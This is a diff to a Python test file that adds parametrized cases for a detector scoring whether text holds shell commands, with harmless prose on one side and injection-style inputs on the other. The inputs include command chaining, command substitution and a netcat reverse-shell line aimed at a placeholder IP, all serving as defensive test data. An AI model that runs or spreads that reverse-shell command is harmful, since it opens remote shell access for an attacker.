@@ -118,3 +118,33 @@ def test_what_only_looks_like_prose_is_stopped(text: str) -> None:
 )
 def test_prose_passes(text: str) -> None:
     assert SUSPECTS.score(text) < STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ls -la shows nothing; what's wrong?",
+        "chmod 777 isn't a good idea",
+        "chown -R app:app . doesn't help, use chmod 644 x",
+    ],
+)
+def test_a_command_and_an_apostrophe_are_told_of(text: str) -> None:
+    assert SUSPECTS.score(text) < STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "chmod 777 /srv/app # isn't",
+        "ls -la\nisn't",
+        "ls -la isn't'",
+        'ls -la "isn\'t"',
+        "ls -la isn\\'t",
+        "ls -la 'nt",
+        "x; ls -la isn't",
+        "$(ls -la isn't)",
+        "nc -e /bin/sh 192.0.2.7 4444 isn't",
+    ],
+)
+def test_an_apostrophe_that_a_shell_would_not_wait_for_spares_nothing(text: str) -> None:
+    assert SUSPECTS.score(text) >= STOPS
